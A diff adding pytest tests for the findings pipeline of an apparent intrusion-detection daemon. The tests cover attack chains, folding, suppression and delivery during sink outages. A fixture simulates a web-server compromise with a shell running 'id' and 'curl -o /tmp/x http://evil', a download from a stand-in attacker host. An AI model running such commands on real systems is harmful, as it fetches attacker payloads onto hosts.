@@ -1,0 +1,173 @@
+"""The findings pipeline on a real store: chains cut at the root, folding, suppression,
+a sink that goes down and comes back (nothing lost), and a restart with unsent findings."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+from traces_support import FakeMatch, FakeRule, World
+
+from spyderd.findings import RETRY_S, Findings
+from spyderd.model import ExecEvent
+from spyderd.traces.build import chain_text
+from spyderd.traces.fold import Folder
+from spyderd.traces.suppress import load_suppressions
+from spyderd.traces.tracker import TraceTracker
+
+
+class FakeSink:
+    name = "journald"
+
+    def __init__(self) -> None:
+        self.up = True
+        self.findings: list = []
+        self.traces: list = []
+        self.errors = 0
+
+    def send(self, f) -> bool:
+        if not self.up:
+            self.errors += 1
+            return False
+        self.findings.append(f.to_dict())
+        return True
+
+    def send_trace(self, tr) -> bool:
+        if not self.up:
+            self.errors += 1
+            return False
+        self.traces.append(dict(tr))
+        return True
+
+    def status(self) -> dict:
+        return {"errors": self.errors}
+
+
+def pipeline(w: World, sink: FakeSink, suppress: list[str] | None = None) -> Findings:
+    tracker = TraceTracker(threshold=40, settle=2.0, sinks=(sink.name,), lookup=w.store.trace)
+    return Findings(w.graph, w.store, [sink], tracker, Folder(60.0),
+                    load_suppressions(suppress or []), settle=1.0)
+
+
+def ev_of(node) -> ExecEvent:
+    return ExecEvent(time=node.start, pid=node.pid, filename=node.attrs["exe"],
+                     args=node.attrs["args"], process_id=node.id)
+
+
+def attack(w: World):
+    srv = w.web_server()
+    sh = w.run(200, 100, "/bin/sh", "-c", "id; curl")
+    rid = w.run(201, 200, "/usr/bin/id")
+    curl = w.run(202, 200, "/usr/bin/curl", "-o", "/tmp/x", "http://evil")
+    return srv, sh, rid, curl
+
+
+def test_findings_chain_trace_and_one_trace_entry(tmp_path):
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    srv, sh, rid, curl = attack(w)
+    f1 = p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell below web server"), refs=[srv]), now=0)
+    f2 = p.new(ev_of(rid), rid, FakeMatch(FakeRule("Recon", "medium", 4)), now=0)
+    f3 = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download", "high")), now=0)
+    assert f1.trace_id == f2.trace_id == f3.trace_id and f1.root_id == srv.id
+    p.send_due(0.5)
+    assert sink.findings == []  # settling
+    p.send_due(1.5)
+    assert [f["id"] for f in sink.findings] == [f1.id, f2.id, f3.id]
+    assert chain_text(sink.findings[1]["chain"]) == "nginx[100] > sh[200] > id[201]"
+    assert sink.findings[0]["chain"][0]["role"] == "root"
+    assert sink.traces == []
+    p.send_due(2.5)
+    (tr,) = sink.traces
+    assert tr["score"] == 20 + 8 + 20 and tr["findings"] == [f1.id, f2.id, f3.id]
+    assert tr["counts"]["processes"] >= 4 and tr["root_kind"] == "inbound"
+    p.send_due(100)
+    assert len(sink.traces) == 1
+    stored = w.store.trace(tr["id"])
+    assert stored["emitted"] == {"journald": 48} and w.store.finding(f3.id).sent
+
+
+def test_repeats_fold_into_one_finding_with_a_count(tmp_path):
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    srv = w.web_server()
+    subjects = [w.run(300 + i, 100, "/usr/bin/id", "-u") for i in range(3)]
+    other = w.run(310, 100, "/usr/bin/id", "-g")  # other arguments: its own finding
+    rule = FakeRule("Recon", "medium", 4)
+    out = [p.new(ev_of(s), s, FakeMatch(rule), now=0) for s in [*subjects, other]]
+    assert out[0] is out[1] is out[2] and out[3] is not out[0]
+    assert out[0].count == 3 and out[0].last_time == subjects[2].start
+    p.send_due(5)
+    assert [f["count"] for f in sink.findings] == [3, 1]
+    assert p.counters["folded"] == 2
+    assert srv.id == out[0].root_id
+
+
+def test_suppressed_findings_are_stored_not_sent_and_zero_the_trace(tmp_path):
+    policy = Path(tmp_path) / "ops.yaml"
+    policy.write_text("- suppress: nginx health checks\n"
+                      "  reason: known good\n"
+                      "  ancestor: [nginx]\n"
+                      "  rule: [Shell*]\n")
+    w, sink = World(tmp_path / "w"), FakeSink()
+    p = pipeline(w, sink, [str(policy)])
+    _srv, sh, _rid, curl = attack(w)
+    f1 = p.new(ev_of(sh), sh, FakeMatch(FakeRule("Shell below web server", "critical")), now=0)
+    f2 = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download", "critical")), now=0)
+    p.send_due(10)
+    assert f1.suppressed == "nginx health checks" and not f2.suppressed
+    assert [f["id"] for f in sink.findings] == [f2.id]  # the other rule still reports
+    assert sink.traces == []
+    tr = w.store.trace(f1.trace_id)
+    assert tr["score"] == 0 and tr["suppressed"] == "nginx health checks"
+    assert w.store.finding(f1.id).suppressed == "nginx health checks"
+    assert p.suppressions.hits == {"nginx health checks": 1}
+
+
+def test_sink_down_then_up_loses_nothing_and_a_restart_resends(tmp_path):
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    _srv, sh, rid, curl = attack(w)
+    sink.up = False
+    fs = [p.new(ev_of(n), n, FakeMatch(FakeRule(f"R{i}")), now=0)
+          for i, n in enumerate((sh, rid, curl))]
+    p.send_due(5)
+    assert sink.errors == 1  # one probe, not one error per pending finding
+    p.send_due(5 + RETRY_S / 2)
+    assert sink.errors == 1
+    assert [w.store.finding(f.id).sent for f in fs] == [False] * 3
+    # the daemon dies here; a new one on the same store sends what was kept
+    w.graph.flush()
+    sink2 = FakeSink()
+    p2 = pipeline(w, sink2)
+    assert p2.resend_unsent(now=0) == 3
+    p2.send_due(1000)
+    assert sorted(f["id"] for f in sink2.findings) == sorted(f.id for f in fs)
+    assert [t["score"] for t in sink2.traces] == [60]
+    # and the first pipeline, had it lived, would have sent everything once journald returned
+    sink.up = True
+    p.send_due(5 + RETRY_S)
+    p.send_due(5 + 2 * RETRY_S)
+    assert len(sink.findings) == 3 and len(sink.traces) == 1
+
+
+def test_trace_view_shows_alerts_and_connections_of_the_attack(tmp_path):
+    from spyderd.traces import build_trace
+    from spyderd.traces.render import render_tree
+
+    w, sink = World(tmp_path), FakeSink()
+    p = pipeline(w, sink)
+    srv, sh, _rid, curl = attack(w)
+    w.alert(sh, "app: something odd happened")
+    w.connect(202, 443)
+    benign = w.run(400, 100, "/usr/bin/true")  # another request of the same server
+    f = p.new(ev_of(curl), curl, FakeMatch(FakeRule("Download")), now=0)
+    p.send_due(10)
+    view = build_trace(w.store, f.trace_id)
+    kinds = {n.kind for n in view.nodes.values()}
+    assert {"process", "alert", "connection", "listener"} <= kinds
+    assert benign.id not in view.nodes  # only the request that led to the finding
+    assert any(e.kind == "alerted" and e.src == sh.id for e in view.edges)
+    tree = render_tree(view)
+    assert "alert <4> app: app: something odd happened" in tree
+    assert "!! Download (high)" in tree and "connect 127.0.0.1:40000 -> 10.0.0.9:443" in tree
+    assert view.to_dict()["score"] == 20 and view.roles[srv.id] == "root"
